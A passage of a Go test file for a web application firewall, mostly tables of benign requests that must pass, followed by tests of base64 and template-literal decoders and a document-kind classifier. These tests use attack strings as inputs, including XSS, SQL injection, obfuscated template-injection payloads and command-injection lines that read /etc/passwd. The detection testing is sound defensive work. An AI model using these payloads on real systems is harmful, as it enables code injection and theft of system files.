		{name: "search with quotes and apostrophes", method: "GET", path: "/search?q=" + q(`O'Brien "quoted words" rock'n'roll`)},
		{name: "search with an apostrophe, form", method: "POST", path: "/search", contentType: form, body: "q=" + q("McDonald's near St. Mary's")},
		{name: "non-ASCII search", method: "GET", path: "/search?q=" + q("Zürich 東京 Москва 🎉")},
		{name: "non-ASCII JSON", method: "POST", path: "/api/notes", contentType: js, body: `{"title": "Grüße aus Köln", "body": "日本語のテキスト, émoji 🎉, naïve café"}`},
		{name: "prices", method: "POST", path: "/api/items", contentType: js, body: `{"name": "Lamp", "price": "$5.99", "note": "was $10, now $5 - save 50%"}`},
		{name: "an email and a URL with a query", method: "POST", path: "/api/contacts", contentType: js,
			body: `{"email": "jane.o'neil@example.com", "site": "https://example.com/page?ref=home&lang=de"}`},
		{name: "a query with an email", method: "GET", path: "/users?email=" + q("jane.doe+test@example.com") + "&sort=-created_at"},
		{name: "JSON Schema ($schema, $ref, $id, $defs)", method: "POST", path: "/api/schemas", contentType: js,
			body: `{"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "https://example.com/person", "type": "object", "properties": {"address": {"$ref": "#/$defs/address"}}, "$defs": {"address": {"type": "object"}}}`},
		{name: "JSON Schema 2020-12 keywords ($anchor, $dynamicRef, $dynamicAnchor, $vocabulary, $comment)", method: "POST", path: "/api/schemas", contentType: js,
			body: `{"$schema": "https://json-schema.org/draft/2020-12/schema", "$vocabulary": {"https://json-schema.org/draft/2020-12/vocab/core": true}, "$defs": {"node": {"$anchor": "node", "$dynamicAnchor": "meta", "$comment": "a tree", "items": {"$dynamicRef": "#meta"}}}, "$ref": "#node"}`},
		{name: "prices and totals named like operators in text", method: "POST", path: "/api", contentType: js, body: `{"note": "match the $out and group totals; costs $5", "sort": "-created_at", "limit": 10}`},
		{name: "Handlebars: {{#each}}, {{> partial}}, {{this}}", method: "POST", path: "/api/templates", contentType: js,
			body: `{"body": "{{#each items}}<li>{{this.name}}</li>{{/each}} {{> footer}} {{!-- a comment --}} {{else}}"}`},
		{name: "numbers and text in braces", method: "GET", path: "/search?q=" + q("{2024 10} sizes 7 7 and @home (7 x 7 cm)")},
		{name: "a JSON Merge Patch (RFC 7396)", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json",
			body: `{"title": "Hello!", "phoneNumber": "+01-123-456-7890", "author": {"familyName": null}, "tags": ["example"]}`},
		{name: "a JSON Patch (RFC 6902)", method: "PATCH", path: "/apis/apps/v1/namespaces/default/deployments/web", contentType: "application/json-patch+json",
			body: `[{"op": "replace", "path": "/spec/replicas", "value": 3}, {"op": "add", "path": "/metadata/labels/tier", "value": "frontend"}]`},
		{name: "a $comment and a $ in a value", method: "POST", path: "/api", contentType: js, body: `{"$comment": "pricing", "total": "$ 12.50"}`},
		{name: "a Twig/Jinja2 template: literals joined, filters with arguments", method: "POST", path: "/api/templates", contentType: js,
			body: `{"body": "{{ 'Dear ' ~ user.first_name|title }}, {{ items|map(attribute='name')|join(', ') }} {{ \"a\" \"b\" }}"}`},
		{name: "Markdown with a Mustache variable", method: "POST", path: "/api/docs", contentType: js,
			body: `{"text": "Hello {{name}}, your order {{order.id}} ships today. Use {{#items}}...{{/items}} to loop."}`},
		// not here: "Set ${HOME}/bin in your PATH", which the CRS alone
		// refuses (932130, 932160, 933135; a false positive of its own)
		{name: "a code snippet in a comment", method: "POST", path: "/api/comments", contentType: js,
			body: `{"comment": "In Go: for i := range 10 { fmt.Println(i * 2) } // prints even numbers"}`},
		{name: "text with parentheses", method: "GET", path: "/search?q=" + q("Smith (born 1970) (née Jones)")},
		{name: "a bearer token", method: "GET", path: "/hello_service/greet",
			header: http.Header{"Authorization": {"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTcifQ.c2lnbmF0dXJl"}}},
		{name: "base64 text that is benign", method: "POST", path: "/api/files", contentType: js,
			body: `{"name": "readme.txt", "content": "` + b64("Hello, world! This is a plain text file.\nLine two.") + `"}`},
		{name: "base64 binary (a PNG header)", method: "POST", path: "/api/files", contentType: js,
			body: `{"name": "x.png", "content": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`},
		{name: "words and spaces only (base64's alphabet once the spaces are gone)", method: "POST", path: "/api/notes", contentType: js,
			body: `{"text": "Lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore"}`},
		{name: "JSON sent as text/plain", method: "POST", path: "/api/notes", contentType: "text/plain; charset=utf-8",
			body: `{"title": "Grüße", "content": "` + b64("Hello, world! This is a plain text file.") + `", "tags": [], "n": 2}`},
		{name: "text/plain JavaScript-like text with prices", method: "POST", path: "/api/notes", contentType: "text/plain", body: "{note: 'costs $5, or $4 with the code', tags: [sale, spring]}"},
		{name: "plain text that starts with a brace", method: "POST", path: "/api/notes", contentType: "text/plain", body: "{not json} just a note"},
		{name: "hex ids and long words", method: "GET", path: "/objects?id=5f2b9c3e8a1d4e6f7a8b9c0d&name=Donaudampfschifffahrt&sha=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
		{name: "a form with a percent sign", method: "POST", path: "/api/discount", contentType: form, body: "code=SAVE20&note=" + q("20% off, 100% cotton")},
		{name: "multipart text with non-ASCII and an apostrophe", method: "POST", path: "/upload", contentType: mpType, body: mp},
		{name: "an OpenID Connect id_token in the query (claims with an apostrophe, an ampersand, URLs)", method: "GET", path: "/callback?id_token=eyJhbGciOiAiUlMyNTYiLCAidHlwIjogIkpXVCIsICJraWQiOiAiMjAyNC0wNS1rZXktMSJ9.eyJpc3MiOiAiaHR0cHM6Ly9sb2dpbi5leGFtcGxlLmNvbS9vYXV0aDIvZGVmYXVsdCIsICJzdWIiOiAiMDB1MWEyYjNjNCIsICJhdWQiOiBbImFwaTovL2RlZmF1bHQiLCAic3BhIl0sICJuYW1lIjogIlNlXHUwMGUxbiBPJ0JyaWVuLVNtaXRoIiwgImVtYWlsIjogInNlYW4ub2JyaWVuK3Rlc3RAZXhhbXBsZS5jb20iLCAic2NwIjogWyJvcGVuaWQiLCAicHJvZmlsZSIsICJlbWFpbCIsICJvZmZsaW5lX2FjY2VzcyJdLCAiYW1yIjogWyJwd2QiLCAibWZhIl0sICJub25jZSI6ICJuLTBTNl9XekEyTWoiLCAiYXRfaGFzaCI6ICI3N1FtVVB0alBmeld0RjJBbnBLOVJRIiwgImdyb3VwcyI6IFsiQWRtaW5zICYgQmlsbGluZyIsICJSJkQiXSwgImxvY2FsZSI6ICJkZS1DSCIsICJpYXQiOiAxNzY0NjAwMDAwLCAiZXhwIjogMTc2NDYwMzYwMH0.c2lnbmF0dXJlLWJ5dGVzLWhlcmU&state=af0ifjsldkj"},
		{name: "encoded-words of ordinary subjects", method: "GET", path: "/api/mail?subject=" + q("=?UTF-8?Q?Gr=C3=BC=C3=9Fe_aus_K=C3=B6ln?=") + "&from=" + q("=?ISO-8859-1?Q?Andr=E9?= <andre@example.com>") + "&s2=" + q("=?UTF-8?B?Sm9lJ3MgcmVwb3J0IC0tIGZpbmFs?=")},
		{name: "XML of records with mixed content and comments", method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><orders><!-- export --><order id="1"><name>Jane O'Neil</name><note>Leave at the <b>back</b> door, it's open</note><total>37.50</total></order><order id="2"><name>Bob</name><note>Call first <!-- after 5 -->please</note><total>12</total></order></orders>`},
		{name: "an RSS 2.0 feed (<link>: attack 38's false positive)", method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><rss version="2.0"><channel><title>News</title><link>https://example.com/</link><item><title>Hello</title><link>https://example.com/hello</link><description>It's here</description></item></channel></rss>`},
		{name: "an XHTML 1.0 Strict document (attack 38's false positive)", method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Hi</title></head><body><p>Hello</p></body></html>`},
		{name: "an SVG document with xlink:href (attack 38's false positive)", method: "POST", path: "/api", contentType: "application/xml", body: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"><defs><path id="a" d="M0 0h24v24H0z"/></defs><use xlink:href="#a" fill="#333"/></svg>`},
		{name: "an XML-RPC call (<param>)", method: "POST", path: "/xmlrpc.php", contentType: "text/xml", body: `<?xml version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>admin</string></value></param></params></methodCall>`},
		{name: "a WSDL operation (<wsdl:input>)", method: "POST", path: "/api", contentType: "text/xml", body: `<definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/"><operation name="GetPrice"><wsdl:input message="tns:GetPriceRequest">in</wsdl:input></operation></definitions>`},
		{name: "XHTML with inline markup", method: "POST", path: "/api", contentType: "application/xml", body: `<html><body><p>Select your <b>size</b> and colour, then press <i>Order</i>.</p><p>It's <a href="/help">here</a> or there.</p></body></html>`},
		{name: "XML declared ISO-8859-1 (Latin-1 bytes)", method: "POST", path: "/api", contentType: "application/xml", body: "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r><q>Caf\xe9 cr\xe8me</q></r>"},
		{name: "XML declared windows-1252 (its quotes)", method: "POST", path: "/api", contentType: "text/xml; charset=windows-1252", body: "<?xml version=\"1.0\" encoding=\"windows-1252\"?><r><q>\x93quoted\x94 \x80 5</q></r>"},
		{name: "SOAP declared ISO-8859-1", method: "POST", path: "/soap", contentType: "text/xml; charset=ISO-8859-1", body: `<?xml version="1.0" encoding="ISO-8859-1"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>`},
		{name: "a query parameter of a JSON array of 3,000 numbers (a review's false positive)", method: "GET", path: "/x?ids=" + numbersJSON(3000)},
		{name: "a JSON field of a chart's configuration with 2,500 numbers", method: "POST", path: "/api", contentType: js, body: jsonString("config", `{"series":[{"data":`+numbersJSON(2500)+`}]}`)},
		{name: "a Latin-1 form with named and padded references", method: "POST", path: "/profile", contentType: "application/x-www-form-urlencoded; charset=iso-8859-1", body: "name=" + q("Zo&euml; O&apos;Brien &amp; Sons") + "&note=" + q("Caf&#0000233; &#39 best&#39 &mdash; 5&euro; &lpar;tax&rpar;") + "&emoji=" + q("&#128512; &#65575;")},
		{name: "a query with ; in values and cookies with , (Rails, old Rack)", method: "GET", path: "/search?q=tea;coffee&sort=price;asc&page=2;size=20",
			header: http.Header{"Cookie": {"recent=12,45,78,90; prefs=theme=dark, lang=de; _ga=GA1.2.1234567890.1700000000"}}},
		{name: "an HTML-escaped comment", method: "POST", path: "/comments", contentType: form, body: "body=" + q("I don&apos;t think it&#39;s &quot;the best&quot; episode &ndash; Tom &amp; Jerry&apos;s first one is. L&apos;&eacute;t&eacute; 1&frac12; &#8211; 2&deg;C")},
		{name: "a URL with a query in a value", method: "GET", path: "/go?next=" + q("/search?q=shoes&para=2&copy=1&lang=de")},
		{name: "a Latin-1 form with numeric references (a name, a word, an apostrophe)", method: "POST", path: "/profile", contentType: "application/x-www-form-urlencoded; charset=iso-8859-1", body: "name=Zo%26%23235%3B+O%26%2339%3BBrien&city=%26%2321271%3B%26%2320140&note=It%26%2339%3Bs+fine"},
		{name: "repeated tags that are SQL's words (attack 38's false positives)", method: "GET", path: "/x?tag=mysql&tag=select&tag=join&t=union&t=select&t=from"},
		{name: "repeated parameters of words, tags and numbers", method: "GET", path: "/x?tag=red&tag=blue&id=1&id=2&q=O%27Brien&q=Smith&sort=name&sort=-date"},
		{name: "dotted keys of words (qs allowDots, Spring's a.b)", method: "GET", path: "/x?user.address.city=K%C3%B6ln&filter.price.gte=10&v1.2=x&a.b%5B0%5D.c=1"},
		{name: "bracketed keys of words and indices", method: "GET", path: "/x?filter[name]=Jane&page[size]=10&a[]=1&a[0][b]=2&q[Bob's%20caf%C3%A9]=1&sort[-created_at]=desc"},
		{name: "JSON with Charset=UTF-8", method: "POST", path: "/api", contentType: "application/json; Charset=UTF-8", body: `{"q": "hello"}`},
		{name: "a form with CHARSET=ISO-8859-1", method: "POST", path: "/api", contentType: "application/x-www-form-urlencoded; CHARSET=ISO-8859-1", body: "q=caf%E9"},
		{name: "XML with Charset=\"windows-1252\"", method: "POST", path: "/api", contentType: `text/xml; Charset="windows-1252"`, body: `<r><q>hello</q></r>`},
		{name: "quoted cookies without escapes (words, a name with an apostrophe, punctuation)", method: "GET", path: "/", header: http.Header{"Cookie": {`pref="dark mode"; name="Jane O'Neil"; msg="Hello, world!"; loc="Zürich, CH"; t="2026-12-04 10:30"`}}},
		{name: "quoted cookies with escapes (a quote, a backslash, an octal space)", method: "GET", path: "/", header: http.Header{"Cookie": {`pref="say \"hi\""; dir="C:\\Users\\me"; name="Jane\040O\047Neil"`}}},
		{name: "cookies of a real site", method: "GET", path: "/", header: http.Header{"Cookie": {"lang=de-CH; theme=dark; cart=" + b64(`{"items":[1,2]}`)}}},
		{name: "a percent-encoded cookie (Google's FCCDCF, from the CRS's tests)", method: "GET", path: "/", header: http.Header{"Cookie": {"FCCDCF=%5Bnull%2Cnull%2Cnull%2Cnull%2Cnull%2Cnull%2C%5B%5B32%2C%22%5B%5C%2217891cd2-fd1c-416b-a0c7-be2127c321b1%5C%22%2C%5B1764611074%2C138000000%5D%5D%22%5D%5D%5D"}}},
		{name: "a JWT in a query parameter and a cookie (its dots skipped, it decodes to its claims)", method: "GET", path: "/api/orders?access_token=eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiAidXNlci03IiwgIm5hbWUiOiAiSmFuZSBPJ05laWwiLCAiZW1haWwiOiAiamFuZUBleGFtcGxlLmNvbSIsICJpc3MiOiAiaHR0cHM6Ly9hdXRoLmV4YW1wbGUuY29tLyIsICJhdWQiOiAiYXBpOi8vZGVmYXVsdCIsICJzY29wZSI6ICJvcGVuaWQgcHJvZmlsZSBlbWFpbCByZWFkOm9yZGVycyB3cml0ZTpvcmRlcnMiLCAicm9sZXMiOiBbImFkbWluIiwgImJpbGxpbmciXSwgImlhdCI6IDE3NjQ2MDAwMDAsICJleHAiOiAxNzY0NjAzNjAwfQ.KnQvZKx7TuM8EzSn2RTjOmricuTa9BpQTIQu7xZlDu4",
			header: http.Header{"Cookie": {"session=eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiAidXNlci03IiwgIm5hbWUiOiAiSmFuZSBPJ05laWwiLCAiZW1haWwiOiAiamFuZUBleGFtcGxlLmNvbSIsICJpc3MiOiAiaHR0cHM6Ly9hdXRoLmV4YW1wbGUuY29tLyIsICJhdWQiOiAiYXBpOi8vZGVmYXVsdCIsICJzY29wZSI6ICJvcGVuaWQgcHJvZmlsZSBlbWFpbCByZWFkOm9yZGVycyB3cml0ZTpvcmRlcnMiLCAicm9sZXMiOiBbImFkbWluIiwgImJpbGxpbmciXSwgImlhdCI6IDE3NjQ2MDAwMDAsICJleHAiOiAxNzY0NjAzNjAwfQ.KnQvZKx7TuM8EzSn2RTjOmricuTa9BpQTIQu7xZlDu4"}}},
		{name: "sentences with punctuation and dashes", method: "POST", path: "/api/notes", contentType: js,
			body: `{"title": "Q3-2026 roadmap: re-design, follow-ups", "body": "Well-known, long-standing issues; e.g. state-of-the-art end-to-end tests... (see ticket ABC-1234)."}`},
		{name: "an XML document with base64 of plain text and of binary", method: "POST", path: "/api/files", contentType: "application/xml",
			body: `<?xml version="1.0" encoding="UTF-8"?><file name="readme.txt" sha="9f86d081884c7d659a2feaa0c55ad015"><content>` + b64("Hello, world! This is a plain text file.\nLine two.") + `</content><thumb>iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==</thumb></file>`},
		{name: "an e-mail with an HTML body in base64url (Gmail's API raw)", method: "POST", path: "/gmail/v1/users/me/messages/send", contentType: js,
			body: `{"raw": "` + b64url(htmlMail("Example Inc., 1 Main St.")) + `"}`},
		{name: "an HTML attachment in base64 (SendGrid's mail/send)", method: "POST", path: "/v3/mail/send", contentType: js,
			body: `{"personalizations": [{"to": [{"email": "bob@example.com"}]}], "from": {"email": "shop@example.com"}, "subject": "Invoice", "attachments": [{"content": "` + b64(htmlPage("Thank you for your order!")) + `", "filename": "invoice.html", "type": "text/html"}]}`},
		{name: "a small shell script in base64", method: "POST", path: "/api/jobs", contentType: js,
			body: `{"name": "deploy.sh", "content": "` + b64("#!/bin/sh\nset -eu\ncd /opt/app\n./bin/migrate --env production\nsystemctl restart app.service\necho \"deployed $(date)\"\n") + `"}`},
		{name: "a Kubernetes Secret's data: a two-line script", method: "POST", path: "/api/v1/namespaces/default/secrets", contentType: js,
			body: `{"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "init"}, "data": {"init.sh": "` + b64("#!/bin/sh\nexec /usr/local/bin/app --config /etc/app/config.yaml\n") + `"}}`},
		{name: "an LDAP filter sent as data (an admin API)", method: "POST", path: "/admin/directory/search", contentType: js,
			body: `{"filter": "(&(objectClass=user)(mail=a@b.c))", "or": "(|(cn=Jane*)(mail=jane@example.com))"}`},
		{name: "text with #{...} and LDAP operators named", method: "POST", path: "/api/notes", contentType: js,
			body: `{"text": "Ticket #{123 456}; use (&) for AND and (|) for OR in LDAP filters."}`},
		{name: "text with quotes and || (a code review comment)", method: "POST", path: "/api/comments", contentType: js,
			body: `{"comment": "Prefer a || b over the ternary; the value is 'n/a' || empty."}`},
		{name: "a SAML request, deflated then base64 (HTTP-Redirect binding)", method: "GET", path: "/sso?SAMLRequest=" + q(b64bytes(deflated(samlRequest("", "https://sp.example.com/metadata")))) + "&RelayState=" + q("https://sp.example.com/app")},
		{name: "gzipped JSON in base64", method: "POST", path: "/api/batches", contentType: js, body: `{"encoding": "gzip", "data": "` + b64bytes(gzipped(`{"events": [{"type": "page_view", "path": "/pricing", "ts": 1764600000}, {"type": "click", "target": "signup"}]}`)) + `"}`},
		{name: "UTF-16LE text in base64", method: "POST", path: "/api/notes", contentType: js, body: `{"text": "` + b64bytes(utf16le("Grüße aus Köln, and a plain note.")) + `"}`},
		{name: "an SVG icon in base64", method: "POST", path: "/api/icons", contentType: js,
			body: `{"icon": "` + b64(`<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/></svg>`) + `"}`},
		{name: "a SAML response in base64 (HTTP-POST binding)", method: "POST", path: "/acs", contentType: form,
			body: "SAMLResponse=" + q(b64(samlRequest("", "https://idp.example.com/metadata"))) + "&RelayState=" + q("/app")},
		{name: "an Accept-Language header", method: "GET", path: "/", header: http.Header{"Accept-Language": {"de-CH,de;q=0.9,en;q=0.8"}}},
		// JSON near the credential-operator rule (210133)
		{name: "a password that is the word not", method: "POST", path: "/login", contentType: js, body: `{"email": "ann@example.com", "password": "not"}`},
		{name: "a filter on e-mail with contains", method: "POST", path: "/api/users/search", contentType: js, body: `{"email": {"contains": "@example.com"}, "name": {"not": "test"}}`},
		{name: "a filter API's where with a code and a token", method: "POST", path: "/api/orders/query", contentType: js,
			body: `{"where": {"code": {"not": "X1"}, "resetToken": {"not": null}, "total": {"gt": 100}}, "take": 10}`},
		{name: "a password change", method: "POST", path: "/api/me/password", contentType: js, body: `{"password": {"current": "0ld-Pass!", "new": "n3w-Pass!"}}`},
		{name: "a token object", method: "POST", path: "/api/tokens", contentType: js, body: `{"token": {"type": "bearer", "expires_in": 3600, "scopes": ["read"]}}`},
		{name: "notifications not email", method: "POST", path: "/api/settings", contentType: js, body: `{"notifications": {"not": ["email"]}, "countryCode": {"not": "US"}}`},
		{name: "an OAuth callback with a code", method: "GET", path: "/callback?code=SplxlOBeZQQYbYS6WxSbIA&state=af0ifjsldkj"},
		{name: "filters on keys, hashtags, zip codes and answers", method: "POST", path: "/api/search", contentType: js,
			body: `{"keyboard": {"not": "qwerty"}, "hashtags": {"contains": "go"}, "zipCode": {"not": "10001"}, "answers": {"not": []}, "key": {"name": "k1"}}`},
		{name: "a password object with an equals filter", method: "POST", path: "/api/policy", contentType: js, body: `{"password": {"equals": {"not": "x"}}}`},
		{name: "a phone object, a cvvRequired filter, a where on smsCode", method: "POST", path: "/api/checkout", contentType: js,
			body: `{"phone": {"not": ""}, "cvvRequired": {"not": false}, "userPassport": {"not": null}, "where": {"smsCode": {"not": "1"}}, "smsCode": "123456"}`},
		{name: "an smsOtpEnabled object, an authenticator, resetKeys, a where on totpCode", method: "POST", path: "/api/settings", contentType: js,
			body: `{"smsOtpEnabled": {"not": false}, "authenticator": {"not": null}, "resetKeys": {"contains": "a"}, "where": {"totpCode": {"not": "1"}}, "email": {"notBetween": [1, 2]}}`},
		{name: "a where with Directus's negated operators, a password policy object", method: "POST", path: "/api/items/query", contentType: js,
			body: `{"where": {"password": {"_nempty": true}, "email": {"_nregex": "test"}}, "email": {"_nstarts_with": "admin"}, "password": {"nullable": false, "notice": "8 characters"}}`},
		// template text near the named-filter and {math} rules
		{name: "a Liquid template with filters on variables", method: "POST", path: "/api/templates", contentType: js,
			body: `{"body": "Hello {{ user.name }}, total {{ order.total | times: 1.1 | round: 2 }} {% if order.paid %}paid{% endif %}"}`},
		{name: "a Mustache section", method: "POST", path: "/api/templates", contentType: js, body: `{"body": "{{#items}}<li>{{name}}</li>{{/items}}"}`},
		{name: "a Go template over a field", method: "POST", path: "/api/templates", contentType: js, body: `{"body": "Hi {{ .Name }}: {{ range .Items }}{{ .Title }} {{ end }}{{ with .Note }}{{ . }}{{ end }}"}`},
		{name: "a Go template over its data (attack 17)", method: "POST", path: "/api/templates", contentType: js, body: `{"body": "<ul>{{ range . }}<li>{{ .Name }}</li>{{ end }}</ul> {{ range $k, $v := . }}{{ $k }}: {{ $v }}{{ end }}"}`},
		// near attack 14's: ERB, Groovy and format strings in prose and
		// code (210116, 210117), objects with a key near their parent's
		// (210134), apostrophes before Cypher's words (210135)
		{name: "ERB snippets in a forum post", method: "POST", path: "/api/comments", contentType: js,
			body: `{"comment": "Use <%= @user.name %> to print, <%= link_to 'Home', root_path %> for a link, <% if x %>...<% end %> for logic and <%= render 'form' %>; the system 'works'."}`},
		{name: "a Rails database.yml with ENV in ERB", method: "POST", path: "/api/snippets", contentType: js,
			body: `{"code": "production:\n  pool: <%= ENV.fetch \"RAILS_MAX_THREADS\", 5 %>\n  password: <%= ENV['DATABASE_PASSWORD'] %>"}`},
		{name: "code that calls execute on objects", method: "POST", path: "/api/snippets", contentType: js,
			body: `{"code": "cursor.execute(query); db.prepare('x').execute(); tasks['build'].execute(); commands[0].execute(); page.evaluate('document.title')"}`},
		{name: "str.format fields and Python prose", method: "GET", path: "/search?q=" + q("{0} {name} {user.name} {0.__class__}: override __init__; __globals__ holds a module's names") + "&f=" + q(`f"{self.__class__.__name__}({self.x!r})"`)},
		{name: "objects with keys near their parent's", method: "POST", path: "/api/settings", contentType: js,
			body: `{"user": {"user_id": 1}, "settings": {"settings_version": 1}, "json": 1, "matrix": [[1, 1]], "password": {"current": "1x", "new": "2y"}}`},
		{name: "a bracketed key near its parent's in the query", method: "GET", path: "/api/items?user[user_id]=1&page[number]=1&password[new]=1"},
		{name: "apostrophes before Cypher's words", method: "POST", path: "/api/comments", contentType: js,
			body: `{"comment": "it's a match (finally) with the return; I won't return the match (it was bad); Jones' match (home: away)"}`},
		// near attack 13's Django request attributes
		{name: "a Django template with the request's user and path", method: "POST", path: "/api/templates", contentType: js,
			body: `{"body": "Hi {{ request.user.username }}, you are on {{ request.path }} ({{ request.method }})"}`},
		{name: "a Go template with sprig on a variable", method: "POST", path: "/api/templates", contentType: js, body: `{"body": "{{ add .Count 1 }} of {{ len .Items }}"}`},
		{name: "text about math", method: "GET", path: "/search?q=" + q("math equation = 7 times 7; add 7 to 7 {maths}")},
	}, fileBenign()...)
}

// TestDetectionBeyondTheCRS runs the attack and benign tables through a
// real Caddy with waf (paranoia 1) and with waf { crs_only } (the CRS
// alone, as before): every attack is refused with the additions, those
// in crsMisses pass the CRS alone (so each one is the additions' work),
// and no benign request is refused by either.
func TestDetectionBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	crsCatches, crsMisses := attackTable()
	runBeyondTheCRS(t, crsCatches, crsMisses, benignTable())
}

func TestPlainBase64(t *testing.T) {
	for v, want := range map[string]string{
		b64("<script>alert(1)</script>"):               "<script>alert(1)</script>",
		b64url("1' OR 1=1 -- ??>>"):                    "1' OR 1=1 -- ??>>",
		"data:text/plain;base64," + b64("hello there"): "hello there",
		b64("Zürich 東京"):                               "Zürich 東京",
		"dGVzdA==":                                     "",             // too short
		"Donaudampfschifffahrt":                        "",             // decodes to binary
		"9f86d081884c7d659a2feaa0c55ad015":             "",             // hex: binary
		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ": "",             // PNG
		"aGVsbG8gd29ybGQh+-_/":                         "hello world!", // mixed alphabets: Python's reading
		"aGVsbG8gd29ybGQh===":                          "hello world!", // extra padding
		"aGVsbG8gd29ybGQ":                              "hello world",  // missing padding
		"aGVsbG8gd29y\r\nbGQh":                         "hello world!", // a MIME line break
		"aGVsbG8g d29ybGQh":                            "hello world!", // a space
		"aGVsbG8gd29ybGQhI":                            "hello world!", // a lone last character
		b64("1' OR 1=1 --\xff"):                        "1' OR 1=1 --", // a byte that is not UTF-8
		b64("\xff\xfe\xfd<script>"):                    "",             // 3 of 11 not text
		"internationalization":                         "",
		"JHs3Kjd9":                                     "${7*7}",   // short: printable ASCII
		"J29yIDE9MSM":                                  "'or 1=1#", // short, unpadded
		"InferSchema":                                  "",         // short: not ASCII
		"password":                                     "",
		"9f86d081":                                     "",
		"Zm9vYmFy!":                                    "", // short: one alphabet only
		"Authorization":                                "",
		"aGVsbG8gd29ybGQ=x":                            "hello world",             // pad inside: both stop there
		"aGVsbG8gd29ybGQh==!":                          "hello world!",            // a stray character
		"aGVs.bG8g.d29y.bGQh":                          "hello world!",            // dots between groups
		"aGVs-bG8g-d29y-bGQh":                          "hello world!",            // dashes: Python skips them
		"aGVs=bG8gd29ybGQh":                            "hello world!",            // Python skips a pad that ends no group
		"MScgT1IgMT0xIC0tID8_Pz4+PiB+fn4=":             "1' OR 1=1 -- ???>>> ~~~", // both alphabets: Node's reading
		"hello world, plainly":                         "",                        // not base64
		"":                                             "",
	} {
		got, ok := plainBase64(v)
		if ok != (want != "") || got != want {
			t.Errorf("plainBase64(%q) = %q, %v; want %q", v, got, ok, want)
		}
	}
}

func TestTemplateLiterals(t *testing.T) {
	for v, want := range map[string]string{
		`{{namespace['_''_init_''_']['o''s']}}`:     `{{namespace['__init__']['os']}}`,
		`{{''['\137\137class\137\137']}}`:           `{{''['__class__']}}`,
		`{{ x['\x5f\x5fcl\u0061ss\U0000005f_'] }}`:  `{{ x['__class__'] }}`,
		`{{ x["\N{LOW LINE}\N{low line}init__"] }}`: `{{ x["__init__"] }}`,
		`{{ ()['_'~'_cla'+'ss_' ~ '_'] }}`:          `{{ ()['__class__'] }}`,
		`{{['id']|filter('sys'~'tem')}}`:            `{{['id']|filter('system')}}`,
		`O'Brien said ${'ja' + 'va'}`:               `O'Brien said ${'java'}`,
		`#{'a' "b"}`:                                `#{'ab'}`,
		`{% set x = 'a\'b' %}`:                      `{% set x = 'a'b' %}`,
		`{{ 'Dear ' ~ user.name }}`:                 "", // nothing joined or escaped
		`{{ 'unclosed }}`:                           "",
		`O'Brien's 'a' 'b' without delimiters`:      "",
		`{{ '\q' }}`:                                "", // not an escape: as it is
		`{{ '\x5' }}`:                               "",
		`plain {text}`:                              "",
	} {
		got, ok := templateLiterals(v)
		if ok != (want != "") || got != want {
			t.Errorf("templateLiterals(%q) = %q, %v; want %q", v, got, ok, want)
		}
		if len(got) > len(v) {
			t.Errorf("templateLiterals(%q) is longer than it", v)
		}
	}
}

func FuzzTemplateLiterals(f *testing.F) {
	for _, s := range []string{`{{'a''b'}}`, `{{'\137\x5f\u005f\U0000005f\N{LOW LINE}'}}`, `${'a'~"b"+'c'}`, `{%'\`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if got, ok := templateLiterals(v); ok && (len(got) > len(v) || got == v) {
			t.Fatalf("%q: %q (%d bytes from %d)", v, got, len(got), len(v))
		}
	})
}

func TestDocumentKind(t *testing.T) {
	for s, want := range map[string]string{
		htmlMail("x"):                            suffixMarkup,
		htmlPage("x"):                            suffixMarkup,
		"#!/bin/sh\nset -e\necho hi\n":           suffixScript,
		"#!/bin/sh; cat /etc/passwd":             "",           // one line: a command, not a script
		"#!/bin/sh\necho \"$SECRET\" > /run/x\n": suffixScript, // two lines (a Kubernetes Secret's)
		"#!/bin/sh\n":                            "",
		"<script>alert(1)</script>":              "",
		"From: a\r\n\r\n<script>x</script>":      "", // too short for a document
		"Subject: x\r\n" + strings.Repeat("not a header line\r\n", 20) + "\r\n" + strings.Repeat("x", 300): suffixFileText, // no message: a text document
		"# mytool\n\nInstall:\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\n```\n":             suffixFileText,
		"id;cat /etc/passwd\n":             "",
		"; id\n\n; id\n":                   "", // two lines
		"$(id)":                            "",
		"<html>" + strings.Repeat("x", 60): "",
		samlRequest("", "x"):               suffixMarkup,
